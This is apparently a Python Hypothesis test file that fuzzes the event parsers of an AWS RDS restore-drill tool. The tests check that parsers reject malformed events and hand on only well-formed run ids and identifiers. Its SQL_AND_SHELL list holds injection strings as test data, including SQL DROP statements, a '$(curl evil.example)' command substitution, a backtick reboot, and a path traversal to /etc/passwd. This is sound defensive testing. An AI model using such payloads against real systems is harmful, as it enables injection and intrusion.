"""Hostile input at the event parsers (restoredrill.ports.inbound_events), property-based, no
sockets.

Whatever arrives, a parser either understands it or raises InvalidEvent with a clear message;
it never hands on a run id that is not exactly 20 lowercase hex digits, never takes an instance
without the `restoredrill-` prefix for one of ours, and never hands RDS an identifier RDS would
refuse as malformed (RDS answers those with InvalidParameterValue: a handler that passes one on
raises, and EventBridge retries it).

The strategies here are shared with tests/adapters/test_hostile_input.py, which throws the same
input at the handlers themselves under moto.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from restoredrill.ports.inbound_events import (
    InvalidEvent,
    is_drill_requested,
    parse_checker_record,
    parse_drill_requested,
    parse_instance_event,
    parse_poll_body,
    parse_snapshot_event,
    resource_id_from_arn,
)
from restoredrill.ports.recovery_points import parse_recovery_point_event
from restoredrill.ports.restore_testing import parse_restore_job_event

EVENTS = Path(__file__).resolve().parents[2] / "events"

# Exactly what a run id is. (`re.match` with `$` would also take a trailing newline.)
RUN_ID = re.compile(r"[0-9a-f]{20}")
OUR_INSTANCE = re.compile(r"restoredrill-[0-9a-f]{20}(?:-writer)?")
# What RDS takes as an identifier: a letter, then letters, digits and single hyphens, no hyphen
# at the end (RDS answers anything else with InvalidParameterValue "... is not a valid
# identifier. Identifiers must begin with a letter; must contain only ASCII letters, digits, and
# hyphens; and must not end with a hyphen or contain two consecutive hyphens.").
RDS_NAME = re.compile(r"[A-Za-z](?:-?[A-Za-z0-9])*")
SNAPSHOT_ARN = re.compile(r"arn:aws[a-z-]*:rds:[a-z0-9-]+:[0-9]{12}:snapshot:(.+)")

PARSE_UNIT = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def valid_instance_identifier(value: str) -> bool:
    return 1 <= len(value) <= 63 and RDS_NAME.fullmatch(value) is not None


def valid_snapshot_identifier(value: str) -> bool:
    arn = SNAPSHOT_ARN.fullmatch(value)
    name = arn.group(1) if arn else value
    for prefix in ("rds:", "awsbackup:"):
        if name.startswith(prefix):
            name = name[len(prefix) :]
            break
    return len(value) <= 255 and RDS_NAME.fullmatch(name) is not None


def sample(name: str) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads((EVENTS / name).read_text())
    return loaded


# ------------------------------------------------------------------------------ strategies

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**63), max_value=2**64)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=40)
)
json_values = st.recursive(
    json_scalars,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=12,
)

SQL_AND_SHELL = [
    "'; DROP TABLE runs; --",
    '" OR "1"="1',
    "restoredrill-0123456789abcdef0123'; DELETE FROM runs; --",
    "orders-db; DROP DATABASE orders",
    "$(curl evil.example)",
    "`reboot`",
    "../../../etc/passwd",
    "%s%s%s%n",
    "{{7*7}}",
    "\x00restoredrill-0123456789abcdef0123",
    "restoredrill-0123456789abcdef0123\n",
    "arn:aws:rds:us-east-1:123456789012:db:restoredrill-0123456789abcdef0123\n",
    "restoredrill-0123456789abcdef0123\x00",
    "restoredrill-0123456789abcdef012\uff13",  # a fullwidth digit 3
    "".join(chr(ord(c) + 0xFEE0) for c in "restoredrill") + "-0123456789abcdef0123",  # fullwidth
    "restoredrill\u2010" + "0123456789abcdef0123",  # a Unicode hyphen
    "RESTOREDRILL-0123456789ABCDEF0123",
    "restoredrill-0123456789abcdef01234",
    "restoredrill-0123456789abcdef012",
    "restoredrill--0123456789abcdef0123",
    " restoredrill-0123456789abcdef0123",
    "🚀💥",
    "",
]
hostile_strings = st.one_of(
    st.text(max_size=80),
    st.sampled_from(SQL_AND_SHELL),
    st.integers(min_value=64, max_value=20_000).map(lambda n: "restoredrill-" + "a" * n),
    st.builds(
        str.__add__,
        st.sampled_from(
            ["", "rds:", "prod-", "restoredrill", "restoredrill_", "rds:restoredrill-"]
        ),
        st.text(alphabet="0123456789abcdefABCDEF-:\n ", max_size=30),
    ),
)
hostile_values = json_values | hostile_strings

# Not "cluster": an Aurora drill's cluster is named like a drill instance, and its events are
# the drill's (cluster created, deleted, credentials reset).
OTHER_RESOURCE_TYPES = ["snapshot", "cluster-snapshot", "og", "pg", "subgrp", "es"]


run_ids = st.text(alphabet="0123456789abcdef", min_size=20, max_size=20)

SPOILERS: list[Callable[[str], str]] = [
    lambda ours: ours + "\n",
    lambda ours: ours + "\x00",
    lambda ours: ours + "\r\n",
    lambda ours: " " + ours,
    lambda ours: ours.upper(),
    lambda ours: ours[:-1],
    lambda ours: ours + "0",
    lambda ours: ours[:-1] + "\uff10",  # a fullwidth zero
    lambda ours: ours.replace("-", "_"),
    lambda ours: ours.replace("-", "\u2010"),  # a Unicode hyphen
    lambda ours: ours.replace("-", "--"),
    lambda ours: "x" + ours,
    lambda ours: ours + "; DROP TABLE runs",
]


@st.composite
def near_misses(draw: st.DrawFn) -> str:
    """One of our instance ids (restoredrill-<20 hex>), spoiled by a character or two."""
    spoil = draw(st.sampled_from(SPOILERS))
    return spoil(f"restoredrill-{draw(run_ids)}")


def foreign_instance_ids() -> st.SearchStrategy[str]:
    """Identifiers that do not name one of our drill instances."""

    def not_ours(value: str) -> bool:
        return OUR_INSTANCE.fullmatch(value.removeprefix("rds:")) is None

    return (
        st.one_of(
            hostile_strings,
            near_misses(),
            st.sampled_from(["orders-db", "clinic-db", "prod-restoredrill-db", "restoredrill"]),
        )
    ).filter(not_ours)


@st.composite
def rds_instance_events_for_others(draw: st.DrawFn) -> dict[str, Any]:
    """RDS instance events about instances that are not ours, or resources that are not
    instances (a snapshot or cluster named like one of our instances)."""
    event = copy.deepcopy(sample("advance/rds-restored-from-snapshot.json"))
    detail = event["detail"]
    kind = draw(
        st.sampled_from(["foreign id", "spoiled id", "other resource type", "unparseable arn"])
    )
    if kind in ("foreign id", "spoiled id"):
        instance = draw(foreign_instance_ids() if kind == "foreign id" else near_misses())
        detail["SourceArn"] = f"arn:aws:rds:us-east-1:123456789012:db:{instance}"
        detail["SourceIdentifier"] = draw(st.sampled_from(["", "rds:"])) + instance
    elif kind == "other resource type":
        ours = f"restoredrill-{draw(run_ids)}"
        resource = draw(st.sampled_from(OTHER_RESOURCE_TYPES))
        detail["SourceArn"] = f"arn:aws:rds:us-east-1:123456789012:{resource}:{ours}"
        detail["SourceIdentifier"] = ours
        detail["SourceType"] = draw(st.sampled_from(["SNAPSHOT", "CLUSTER", "DB_INSTANCE"]))
    else:
        instance = draw(foreign_instance_ids())
        detail["SourceArn"] = draw(
            hostile_strings.filter(
                lambda s: ":db:restoredrill-" not in s and ":cluster:restoredrill-" not in s
            )
        )
        detail["SourceIdentifier"] = instance
    if draw(st.booleans()):
        detail["EventID"] = draw(st.sampled_from(["RDS-EVENT-0016", "RDS-EVENT-0003", "x"]))
    if draw(st.booleans()):
        detail.pop("Tags", None)
    return event


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if prefix:
        yield prefix
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _paths(child, (*prefix, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            yield from _paths(child, (*prefix, index))


@st.composite
def mutated(
    draw: st.DrawFn, base: dict[str, Any], values: st.SearchStrategy[Any] = hostile_values
) -> dict[str, Any]:
    """A valid event with one to three fields removed or replaced by values of any type."""
    event = copy.deepcopy(base)
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        paths = list(_paths(event))
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        parent: Any = event
        for part in path[:-1]:
            parent = parent[part]
        if draw(st.booleans()):
            del parent[path[-1]]
        else:
            parent[path[-1]] = draw(values)
    return event


@st.composite
def snapshot_events_with_bad_identifiers(draw: st.DrawFn) -> dict[str, Any]:
    event = copy.deepcopy(sample("start_drill/automated-snapshot-created.json"))
    bad = draw(hostile_strings.filter(lambda s: s != "" and not valid_snapshot_identifier(s)))
    detail = event["detail"]
    if draw(st.booleans()):
        detail["SourceArn"] = f"arn:aws:rds:us-east-1:123456789012:snapshot:{bad}"
    else:
        del detail["SourceArn"]
        detail["SourceIdentifier"] = bad
    return event


@st.composite
def drill_requests_with_bad_fields(draw: st.DrawFn) -> dict[str, Any]:
    name = draw(st.sampled_from(["drill-requested.json", "drill-requested-point-in-time.json"]))
    event = copy.deepcopy(sample(f"start_drill/{name}"))
    detail = event["detail"]
    field = draw(
        st.sampled_from(
            ["db_instance_identifier", "snapshot_id", "requested_by", "request_id", "point_in_time"]
        )
    )
    detail[field] = draw(hostile_values)
    if field == "snapshot_id" and draw(st.booleans()):
        del detail["db_instance_identifier"]
    return event


@st.composite
def restore_job_events_with_bad_fields(draw: st.DrawFn) -> dict[str, Any]:
    """The sample Restore Job State Change with one field the validator reads made hostile."""
    event = copy.deepcopy(sample("validate_restore/restore-test-completed.json"))
    field = draw(
        st.sampled_from(["restoreJobId", "status", "createdResourceArn", "restoreTestingPlanArn"])
    )
    if field == "createdResourceArn" and draw(st.booleans()):
        value: Any = "arn:aws:rds:us-east-1:123456789012:db:" + draw(hostile_strings)
    else:
        value = draw(hostile_values)
    event["detail"][field] = value
    return event


RECOVERY_POINT_FIELDS = [
    "state",
    "resourceType",
    "backupJobId",
    "copyJobId",
    "backupVaultName",
    "destinationBackupVaultArn",
    "destinationRecoveryPointArn",
    "sourceRecoveryPointArn",
    "resourceArn",
    "createdBy",
]


@st.composite
def recovery_point_events_with_bad_fields(draw: st.DrawFn) -> dict[str, Any]:
    """The sample Backup Job or Copy Job State Change with one field StartDrill reads made
    hostile (or its resources)."""
    name = draw(st.sampled_from(["backup-job-completed.json", "copy-job-completed.json"]))
    event = copy.deepcopy(sample(f"start_drill/{name}"))
    field = draw(st.sampled_from([*RECOVERY_POINT_FIELDS, "resources"]))
    if field == "resources":
        event["resources"] = draw(st.one_of(hostile_values, st.lists(hostile_strings, max_size=3)))
    elif field == "createdBy":
        event["detail"]["createdBy"] = {"backupPlanId": draw(hostile_values)}
    elif draw(st.booleans()):
        prefix = "arn:aws:rds:us-east-1:123456789012:snapshot:awsbackup:"
        event["detail"][field] = prefix + draw(hostile_strings)
    else:
        event["detail"][field] = draw(hostile_values)
    return event


all_events = st.one_of(
    json_values,
    mutated(sample("start_drill/backup-job-completed.json")),
    mutated(sample("start_drill/copy-job-completed.json")),
    recovery_point_events_with_bad_fields(),
    mutated(sample("validate_restore/restore-test-completed.json")),
    restore_job_events_with_bad_fields(),
    mutated(sample("start_drill/automated-snapshot-created.json")),
    mutated(sample("start_drill/drill-requested.json")),
    mutated(sample("start_drill/drill-requested-point-in-time.json")),
    mutated(sample("advance/rds-restored-from-snapshot.json")),
    mutated(sample("advance/rds-master-credentials-reset.json")),
    mutated(sample("notify/drill-finished.json")),
    rds_instance_events_for_others(),
    snapshot_events_with_bad_identifiers(),
    drill_requests_with_bad_fields(),
)


REQUEST_PASSWORD = "hunter2-in-the-payload"


def checker_record(run_id: str, *, password: str = REQUEST_PASSWORD) -> dict[str, Any]:
    """A destination record as Lambda delivers it: the request payload is the whole invoke
    payload, connection password included."""
    record: dict[str, Any] = json.loads(sample("advance/checker-result.json")["Records"][0]["body"])
    record["requestPayload"] = {
        "run_id": run_id,
        "target": {"host": "db.internal", "user": "admin", "password": password},
    }
    record["responsePayload"]["run_id"] = run_id
    return record


@st.composite
def garbage_checker_bodies(draw: st.DrawFn) -> str:
    """Destination-record bodies that can never name a run: each breaks a required field."""
    record = checker_record(draw(run_ids))
    how = draw(
        st.sampled_from(
            [
                "not json",
                "json but not an object",
                "no requestContext",
                "requestContext of the wrong type",
                "condition missing or not a string",
                "no requestPayload",
                "requestPayload of the wrong type",
                "run_id missing",
                "run_id malformed",
            ]
        )
    )
    if how == "not json":
        return draw(st.text(max_size=60).filter(lambda t: not _is_json(t)))
    if how == "json but not an object":
        return json.dumps(draw(json_values.filter(lambda v: not isinstance(v, dict))))
    not_an_object = json_values.filter(lambda v: not isinstance(v, dict))
    if how == "no requestContext":
        del record["requestContext"]
    elif how == "requestContext of the wrong type":
        record["requestContext"] = draw(not_an_object)
    elif how == "condition missing or not a string":
        if draw(st.booleans()):
            del record["requestContext"]["condition"]
        else:
            record["requestContext"]["condition"] = draw(
                json_values.filter(lambda v: not isinstance(v, str))
            )
    elif how == "no requestPayload":
        del record["requestPayload"]
    elif how == "requestPayload of the wrong type":
        record["requestPayload"] = draw(not_an_object)
    elif how == "run_id missing":
        del record["requestPayload"]["run_id"]
    else:
        record["requestPayload"]["run_id"] = draw(
            hostile_values.filter(lambda v: not (isinstance(v, str) and RUN_ID.fullmatch(v)))
        )
    return json.dumps(record)


def _is_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


poll_bodies = st.one_of(
    st.text(max_size=60),
    json_values.map(json.dumps),
    st.dictionaries(st.sampled_from(["run_id", "runId", "extra"]), hostile_values, max_size=3).map(
        json.dumps
    ),
    hostile_strings.map(lambda run_id: json.dumps({"run_id": run_id})),
    run_ids.map(lambda run_id: json.dumps({"run_id": run_id})),
)


def poll_body_is_valid(body: str) -> bool:
    """The poll message contract: a JSON object whose run_id is 20 lowercase hex digits."""
    try:
        message = json.loads(body)
    except ValueError:
        return False
    run_id = message.get("run_id") if isinstance(message, dict) else None
    return isinstance(run_id, str) and RUN_ID.fullmatch(run_id) is not None


# ------------------------------------------------------------------------------ properties


def outcome(parse: Callable[[Any], Any], value: Any) -> tuple[str, Any]:
    """("ok", result) or ("invalid", message); anything else escapes and fails the test."""
    try:
        return "ok", parse(value)
    except InvalidEvent as invalid:
        return "invalid", str(invalid)


@PARSE_UNIT
@given(event=all_events)
def test_event_parsers_raise_nothing_but_invalid_event(event: Any) -> None:
    # Given any JSON value or mangled event
    # When every event parser reads it
    results = {
        parse.__name__: outcome(parse, event)
        for parse in (
            parse_snapshot_event,
            parse_drill_requested,
            parse_instance_event,
            parse_restore_job_event,
        )
    }
    # Then each either understood it or said clearly what is malformed (no other exception
    # escaped `outcome`); and is_drill_requested answers a plain bool
    for kind, result in results.values():
        if kind == "invalid":
            assert result.startswith("malformed ")
    assert is_drill_requested(event) in (True, False)


@PARSE_UNIT
@given(event=all_events)
def test_instance_events_name_only_our_instances_and_well_formed_run_ids(event: Any) -> None:
    # Given any JSON value or mangled instance event
    # When it is read as an RDS instance event
    kind, seen = outcome(parse_instance_event, event)
    # Then a run is named only when the event's DB instance ARN (or, without an ARN, its
    # SourceIdentifier) is exactly restoredrill-<20 hex>
    if kind == "ok" and seen is not None:
        run_id, credentials_reset = seen
        assert RUN_ID.fullmatch(run_id), f"run id {run_id!r}"
        detail = event["detail"]
        arn = detail.get("SourceArn")
        ours = (
            f":db:restoredrill-{run_id}",
            f":db:restoredrill-{run_id}-writer",
            f":cluster:restoredrill-{run_id}",
        )
        if arn:
            assert arn.endswith(ours), f"{arn!r} is not our instance or cluster"
        else:
            identifier = detail["SourceIdentifier"].removeprefix("rds:")
            assert identifier in (f"restoredrill-{run_id}", f"restoredrill-{run_id}-writer")
        assert credentials_reset is (detail.get("EventID") == "RDS-EVENT-0016")


@PARSE_UNIT
@given(event=rds_instance_events_for_others())
def test_events_about_other_instances_or_other_resources_are_ignored(event: dict[str, Any]) -> None:
    # Given an RDS instance event about an instance without our prefix and run id, or about a
    # snapshot or cluster that merely carries one of our instance names
    # When it is read
    kind, seen = outcome(parse_instance_event, event)
    # Then it is not a drill's event
    assert (kind, seen) == ("ok", None)


@PARSE_UNIT
@given(event=all_events)
def test_drill_requests_hand_rds_only_well_formed_identifiers(event: Any) -> None:
    # Given any JSON value or mangled Drill Requested / snapshot event
    for parse in (parse_drill_requested, parse_snapshot_event):
        # When it is read as a drill request
        kind, request = outcome(parse, event)
        # Then what reaches RDS's Describe calls is an identifier RDS accepts as well formed
        if kind == "ok" and request is not None:
            if request.source_db is not None:
                assert valid_instance_identifier(request.source_db), request.source_db
            if request.snapshot_id is not None:
                assert valid_snapshot_identifier(request.snapshot_id), request.snapshot_id


@PARSE_UNIT
@given(event=st.one_of(drill_requests_with_bad_fields(), snapshot_events_with_bad_identifiers()))
def test_requests_naming_malformed_databases_or_snapshots_are_invalid(
    event: dict[str, Any],
) -> None:
    # Given a Drill Requested or snapshot event with a hostile field
    parse = parse_drill_requested if is_drill_requested(event) else parse_snapshot_event
    kind, request = outcome(parse, event)
    # Then it is either rejected as malformed, or what it names is well formed
    if kind == "ok":
        assert request is not None
        assert request.source_db is None or valid_instance_identifier(request.source_db)
        assert request.snapshot_id is None or valid_snapshot_identifier(request.snapshot_id)
    else:
        assert "malformed" in request


@PARSE_UNIT
@given(body=poll_bodies)
def test_poll_bodies_give_a_run_id_exactly_when_the_contract_holds(body: str) -> None:
    # Given any SQS body on the poll queue
    # When it is read as a poll message
    kind, run_id = outcome(parse_poll_body, body)
    # Then it names a run exactly when it is {"run_id": <20 lowercase hex>}
    assert (kind == "ok") is poll_body_is_valid(body)
    if kind == "ok":
        assert RUN_ID.fullmatch(run_id)
    else:
        assert run_id.startswith("malformed poll message")


@PARSE_UNIT
@given(body=garbage_checker_bodies())
def test_checker_records_of_the_wrong_shape_are_invalid_and_quote_no_secret(body: str) -> None:
    # Given a destination record that is not JSON, or lacks or mistypes a required field, and
    # whose request payload may carry the connection password
    # When it is read
    kind, message = outcome(parse_checker_record, body)
    # Then it is malformed, and the message does not quote the payload
    assert kind == "invalid"
    assert message.startswith("malformed checker result record")
    assert REQUEST_PASSWORD not in message


@PARSE_UNIT
@given(
    run_id=run_ids,
    condition=st.sampled_from(["Success", "RetriesExhausted", "EventAgeExceeded"]),
    response=json_values,
)
def test_well_formed_checker_records_name_their_run_whatever_the_response(
    run_id: str, condition: str, response: Any
) -> None:
    # Given a well-formed destination record whose response payload is anything at all
    record = checker_record(run_id)
    record["requestContext"]["condition"] = condition
    record["responsePayload"] = response
    # When it is read
    kind, parsed = outcome(parse_checker_record, json.dumps(record))
    # Then it names its run; only a successful invoke with a known verdict counts as succeeded
    assert kind == "ok"
    assert parsed.run_id == run_id
    if condition != "Success":
        assert not parsed.succeeded
    assert REQUEST_PASSWORD not in parsed.model_dump_json()


@PARSE_UNIT
@given(arn=hostile_strings)
def test_resource_ids_come_only_from_whole_rds_arns(arn: str) -> None:
    # Given anything in an ARN field
    # When the resource id is taken from it
    resource = resource_id_from_arn(arn)
    # Then one comes back only from a whole RDS db/snapshot ARN, and it is the ARN's tail
    if resource is not None:
        assert re.match(r"arn:[^:]+:rds:[^:]*:[^:]*:(db|snapshot|cluster-snapshot):", arn)
        assert arn.endswith(resource)


# A restore job id travels in DescribeRestoreJob's and PutRestoreValidationResult's URL path.
RESTORE_JOB_ID = re.compile(r"[A-Za-z0-9][A-Za-z0-9-]{0,99}")


@PARSE_UNIT
@given(event=all_events)
def test_a_restore_test_is_named_only_for_a_completed_restore_test_of_a_well_formed_instance(
    event: Any,
) -> None:
    # Given any JSON value or mangled event
    # When it is read as a Restore Job State Change
    kind, test = outcome(parse_restore_job_event, event)
    # Then a restore test is named only for an aws.backup event whose job COMPLETED, was
    # started by a restore testing plan and created an RDS DB instance; its job id can go in a
    # URL path as it is, and its instance id is one RDS accepts as well formed
    if kind == "ok" and test is not None:
        detail = event["detail"]
        assert event["source"] == "aws.backup"
        assert detail["status"] == "COMPLETED" and detail["restoreTestingPlanArn"]
        assert RESTORE_JOB_ID.fullmatch(test.restore_job_id), test.restore_job_id
        assert valid_instance_identifier(test.instance_id), test.instance_id
        assert detail["createdResourceArn"].endswith(f":db:{test.instance_id}")


# What StartDrill lets into a run record, a report and a log line of a recovery point.
SAFE_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9_./-]{0,99}")
PLAIN_ARN = re.compile(r"arn:aws[!-~]*")
RECOVERY_POINT_REFUSAL = re.compile(r"^(malformed )?(Backup|Copy) Job State Change event")


@PARSE_UNIT
@given(event=all_events)
def test_a_recovery_point_is_drilled_only_when_a_database_s_job_completed_with_one(
    event: Any,
) -> None:
    # Given any JSON value or mangled event
    # When it is read as a Backup Job or Copy Job State Change
    kind, request = outcome(parse_recovery_point_event, event)
    # Then it is refused naming the event's kind, or it is a completed job of an RDS DB
    # instance or Aurora cluster whose recovery point is an awsbackup snapshot RDS accepts as
    # well formed, and every id and name carried on is plain
    if kind == "invalid":
        assert RECOVERY_POINT_REFUSAL.match(request), request
        return
    detail = event["detail"]
    assert event["source"] == "aws.backup" and detail["state"] == "COMPLETED"
    assert detail["resourceType"] in ("RDS", "Aurora")
    assert request.cluster is (detail["resourceType"] == "Aurora")
    assert request.snapshot_id.startswith("awsbackup:")
    assert valid_snapshot_identifier(request.snapshot_id), request.snapshot_id
    point = request.recovery_point
    assert point is not None
    assert point.recovery_point_arn.endswith(f"snapshot:{request.snapshot_id}")
    for value in (point.backup_job_id, point.copy_job_id, point.vault_name, point.backup_plan_id):
        assert value is None or SAFE_NAME.fullmatch(value), value
    for arn in (point.vault_arn, point.resource_arn, point.source_recovery_point_arn):
        assert arn is None or PLAIN_ARN.fullmatch(arn), arn
